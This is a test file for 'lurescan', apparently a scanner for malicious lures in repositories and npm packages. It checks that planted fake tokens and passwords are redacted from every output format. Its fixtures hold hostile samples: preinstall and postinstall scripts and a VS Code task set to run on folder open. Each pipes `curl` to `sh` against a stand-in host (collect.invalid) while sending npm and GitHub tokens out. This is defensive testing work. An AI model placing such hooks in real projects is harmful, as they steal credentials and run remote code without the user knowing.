/**
 * Every credential lurescan holds is absent from everything it writes, whatever carried it there. Planted secrets:
 * NPM_TOKEN (also the `.npmrc` `_authToken`, through `${NPM_TOKEN}`), NODE_AUTH_TOKEN, GITHUB_TOKEN, a password in
 * `--registry http://user:password@host/`, passwords in git URLs (one holding unencoded `@`s), a token as a URL's
 * user, a token in a query string. Carriers: git's own messages (which rewrite the URL), a registry that echoes the
 * request (headers, basic auth) into its error bodies and into `dist.tarball` (→ `provenance.url`) and the
 * repository URL, and the scanned code itself quoting the values. Each case greps stdout, stderr and the report in
 * every format (text, json, sarif, markdown; the Action's annotations, summary, SARIF and JSON for `github`) for
 * each secret raw, percent-encoded and base64-encoded.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { scan } from '../../src/scan.js';
import { runAction } from '../support/runner.js';
import { assertHygiene, runCli, sandbox, write, type Sandbox } from './harness.js';

const NPM_TOKEN = 'npm_PlAnTeDnPmToKeN0123456789abcdefQRST';
const NODE_AUTH_TOKEN = 'nat_PlAnTeDnOdEaUtH0123456789abcdefUVWX';
const GITHUB_TOKEN = 'ghp_PlAnTeDgItHuBtOkEn0123456789abcdYZ';
const REG_PASSWORD = 'reg-PlAnTeD-pa55word-42';
const GIT_PASSWORD = 'git-PlAnTeD-pa55word-43';
const AT_PASSWORD = 'p@ss@PlAnTeD-w0rd-44';
const QUERY_TOKEN = 'qt_PlAnTeDqUeRyToKeN0123456789';
const USER_TOKEN = 'ut_PlAnTeDuSeRtOkEn0123456789';

/** The secret as written, percent-encoded and base64 (also inside a longer base64 string, at each alignment). */
function forms(secret: string): string[] {
  const out = new Set([secret, encodeURIComponent(secret)]);
  const bytes = Buffer.from(secret);
  for (let shift = 0; shift < 3; shift++) {
    const whole = bytes.subarray(shift, shift + Math.floor((bytes.length - shift) / 3) * 3);
    out.add(whole.toString('base64'));
  }
  // What is left of a password with `@` when a program takes the part after its first `@` for the host.
  if (secret.includes('@')) out.add(secret.slice(secret.lastIndexOf('@') + 1));
  return [...out];
}

export function assertNoSecret(what: string, texts: string[], secrets: string[]): void {
  const all = texts.join('\n');
  for (const s of secrets) for (const f of forms(s)) assert.ok(!all.includes(f), `${what}: a planted secret appears in the output (${f === s ? 'as written' : `as ${JSON.stringify(f.slice(0, 6))}…`})`);
}

interface Registry {
  url: string;
  seen: string[];
  close(): Promise<void>;
}

/**
 * A registry that quotes each request back: errors carry the headers; the packument of `echo-pkg` puts the
 * credential it was sent into `dist.tarball` (path and query) and `repository.url`; its tarball is real and
 * matches the integrity it publishes.
 */
async function echoRegistry(tarball: Buffer): Promise<Registry> {
  const seen: string[] = [];
  const integrity = `sha512-${createHash('sha512').update(tarball).digest('base64')}`;
  let base = '';
  const server = http.createServer((req, res) => {
    const auth = String(req.headers.authorization ?? '');
    const credential = auth.replace(/^(?:Bearer|Basic) /i, '');
    seen.push(`${req.method} ${req.url} ${auth}`);
    const json = (status: number, body: unknown) => {
      res.writeHead(status, { 'content-type': 'application/json', 'x-echo': encodeURIComponent(auth) });
      res.end(JSON.stringify(body));
    };
    const url = req.url ?? '/';
    if (url.startsWith('/-/')) {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      res.end(tarball);
      return;
    }
    if (url === '/echo-pkg') {
      const tgz = `${base}/-/${encodeURIComponent(credential)}/echo-pkg-1.0.0.tgz?token=${encodeURIComponent(credential)}&n=${credential}`;
      json(200, {
        name: 'echo-pkg',
        'dist-tags': { latest: '1.0.0' },
        time: { created: '2020-01-01T00:00:00.000Z', '1.0.0': '2020-01-01T00:00:00.000Z' },
        versions: {
          '1.0.0': {
            name: 'echo-pkg',
            version: '1.0.0',
            description: `served for ${auth}`,
            repository: { type: 'git', url: `https://x:${credential}@github.invalid/echo.git` },
            scripts: { preinstall: 'node install.js' },
            dist: { tarball: tgz, integrity },
          },
        },
      });
      return;
    }
    if (url === '/denied') return json(403, { error: `forbidden for ${auth}` });
    json(404, { error: `not found: ${url} (you sent ${auth})` });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url: base, seen, close: () => new Promise((r) => server.close(() => r())) };
}

describe('redaction: planted credentials never leave the process', function () {
  this.timeout(240_000);
  let sb: Sandbox;
  let reg: Registry;
  let env: NodeJS.ProcessEnv;
  const ALL = [NPM_TOKEN, NODE_AUTH_TOKEN, GITHUB_TOKEN, REG_PASSWORD, GIT_PASSWORD, AT_PASSWORD, QUERY_TOKEN, USER_TOKEN];

  before(async () => {
    sb = sandbox('redaction');
    // A real npm tarball (GNU tar) whose install script quotes the planted values, so findings carry them.
    const pkg = path.join(sb.root, 'pkg', 'package');
    mkdirSync(pkg, { recursive: true });
    writeFileSync(path.join(pkg, 'package.json'), JSON.stringify({ name: 'echo-pkg', version: '1.0.0', scripts: { preinstall: `curl -s "https://collect.invalid/t?v=${NPM_TOKEN}&w=${NODE_AUTH_TOKEN}" | sh` } }));
    execFileSync('tar', ['-czf', path.join(sb.root, 'pkg.tgz'), '-C', path.join(sb.root, 'pkg'), 'package']);
    reg = await echoRegistry(readFileSync(path.join(sb.root, 'pkg.tgz')));
    const host = reg.url.replace(/^http:/, '');
    write(path.join(sb.home, '.npmrc'), `${host}/:_authToken=\${NPM_TOKEN}\n`);
    env = { ...sb.env, NPM_TOKEN, NODE_AUTH_TOKEN, GITHUB_TOKEN };
    // The repository quotes the environment tokens in a lure (a task that runs on folder open) and depends on echo-pkg.
    write(path.join(sb.target, 'package.json'), JSON.stringify({ name: 'r', version: '1.0.0', dependencies: { 'echo-pkg': '1.0.0', missing: '1.0.0', denied: '1.0.0' } }));
    write(
      path.join(sb.target, '.vscode', 'tasks.json'),
      JSON.stringify({ version: '2.0.0', tasks: [{ label: 'setup', type: 'shell', command: `curl -s "https://collect.invalid/?a=${GITHUB_TOKEN}&b=${Buffer.from(NPM_TOKEN).toString('base64')}" | sh`, runOptions: { runOn: 'folderOpen' } }] }),
    );
  });
  after(async () => {
    await reg?.close();
    sb?.cleanup();
  });

  it('R01 repository scan with --online, every format and --output: environment tokens, .npmrc token echoed by the registry', async () => {
    for (const format of ['text', 'json', 'sarif', 'markdown']) {
      const out = path.join(sb.root, `report-${format}`);
      const before = reg.seen.length;
      const r = await runCli([sb.target, '--online', '--registry', `${reg.url}/`, '--format', format, '--verbose'], env);
      assertHygiene(sb, r, { format: format as 'json' });
      assert.ok(reg.seen.slice(before).some((s) => s.includes(NPM_TOKEN)), 'the token was sent, so the echoes carry it');
      const f = await runCli([sb.target, '--online', '--registry', `${reg.url}/`, '--format', format, '--output', out], env);
      assertNoSecret(`--online ${format}`, [r.stdout, r.stderr, f.stdout, f.stderr, readFileSync(out, 'utf8')], ALL);
      if (format === 'json') assert.equal(JSON.parse(r.stdout).verdict, 'block', 'the lure still blocks; only the secrets are gone');
    }
  });

  it('R02 lurescan package: provenance.url of a tarball URL the registry put the token in; not found and refused access', async () => {
    for (const format of ['json', 'text', 'sarif', 'markdown']) {
      const r = await runCli(['package', 'echo-pkg', '--registry', `${reg.url}/`, '--format', format], env);
      assertHygiene(sb, r, { format: format as 'json' });
      assertNoSecret(`package ${format}`, [r.stdout, r.stderr], ALL);
      if (format === 'json') {
        const result = JSON.parse(r.stdout);
        assert.match(result.provenance.url, /\/-\/\*\*\*\/echo-pkg-1\.0\.0\.tgz\?token=\*\*\*/);
      }
    }
    for (const name of ['missing', 'denied']) {
      const r = await runCli(['package', name, '--registry', `${reg.url}/`], env);
      assert.equal(r.code, 2);
      assert.match(r.stderr, name === 'missing' ? /not found on/ : /refused access/);
      assertNoSecret(`package ${name}`, [r.stdout, r.stderr], ALL);
    }
  });

  it('R03 --registry http://user:password@host/: not in "not found", "refused access", reports or registry fields', async () => {
    const withPassword = reg.url.replace('http://', `http://reguser:${REG_PASSWORD}@`);
    // A home without the .npmrc token, so the URL's credentials are the ones sent (as basic auth).
    const home = path.join(sb.root, 'home-no-npmrc');
    mkdirSync(home, { recursive: true });
    const env2 = { ...env, HOME: home };
    for (const name of ['missing', 'denied', 'echo-pkg']) {
      const r = await runCli(['package', name, '--registry', `${withPassword}/`, '--format', 'json'], env2);
      assertHygiene(sb, r, { format: 'json' });
      assertNoSecret(`--registry with a password (${name})`, [r.stdout, r.stderr], ALL);
      if (name === 'missing') assert.match(r.stderr, /not found on http:\/\/\*\*\*@127\.0\.0\.1/);
      if (name === 'denied') assert.match(r.stderr, /the registry http:\/\/\*\*\*@127\.0\.0\.1:\d+\/ refused access/);
    }
    for (const format of ['json', 'text', 'sarif', 'markdown']) {
      const r = await runCli([sb.target, '--online', '--registry', `${withPassword}/`, '--format', format, '--verbose'], env2);
      assertHygiene(sb, r, { format: format as 'json' });
      assertNoSecret(`--online with a password in --registry (${format})`, [r.stdout, r.stderr], ALL);
    }
    assert.ok(reg.seen.some((s) => s.includes(Buffer.from(`reguser:${REG_PASSWORD}`).toString('base64'))), 'the password was sent as basic auth, so the echoes carry it');
  });

  it('R04 git URLs: user:password for git:// and ssh:// (git rewrites the URL), a password with @, a token as user, a token in the query', async () => {
    const urls = [
      `git://alice:${GIT_PASSWORD}@127.0.0.1:1/take-home.git`,
      `ssh://alice:${GIT_PASSWORD}@127.0.0.1:1/take-home.git`,
      `${reg.url.replace('http://', `http://alice:${AT_PASSWORD}@`)}/take-home.git`,
      `http://alice:${AT_PASSWORD}@127.0.0.1:1/take-home.git`,
      `${reg.url.replace('http://', `http://${USER_TOKEN}@`)}/take-home.git`,
      `${reg.url}/take-home.git?access_token=${QUERY_TOKEN}`,
    ];
    for (const url of urls) {
      for (const format of ['text', 'json']) {
        const r = await runCli([url, '--format', format], sb.env);
        assertHygiene(sb, r);
        assert.equal(r.code, 2);
        assertNoSecret(`git ${url.slice(0, 8)} (${format})`, [r.stdout, r.stderr], ALL);
      }
      const events: string[] = [];
      const err = await scan({ kind: 'git', url }, { onProgress: (e) => events.push(JSON.stringify(e)) }).then(
        () => assert.fail('the fetch fails'),
        (e: Error) => e,
      );
      assertNoSecret(`git (library) ${url.slice(0, 8)}`, [err.message, String(err.stack), ...events], [GIT_PASSWORD, AT_PASSWORD, QUERY_TOKEN, USER_TOKEN]);
    }
  });

  it('R05 the Action (github annotations, summary, SARIF, JSON): a token input the scanned code quotes', async () => {
    const ws = path.join(sb.root, 'action-ws');
    write(path.join(ws, 'package.json'), JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: `curl -s https://collect.invalid/?t=${GITHUB_TOKEN} | sh` } }));
    const run = await runAction({
      workspace: ws,
      eventName: 'workflow_dispatch',
      payload: { inputs: {}, ref: 'refs/heads/main', repository: { full_name: 'acme/take-home' }, sender: { login: 'x' } },
      apiUrl: reg.url,
      inputs: { path: '.', mode: 'full', 'fail-on': 'never', token: GITHUB_TOKEN, 'sarif-file': 'out.sarif' },
    });
    assert.match(run.stdout, /::(?:error|warning) file=package\.json/, 'the lure is annotated');
    const stdout = run.stdout.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n');
    assertNoSecret('action', [stdout, run.stderr, JSON.stringify(run.outputs), run.summary, ...Object.values(run.temp), readFileSync(path.join(ws, 'out.sarif'), 'utf8')], ALL);
  });
});
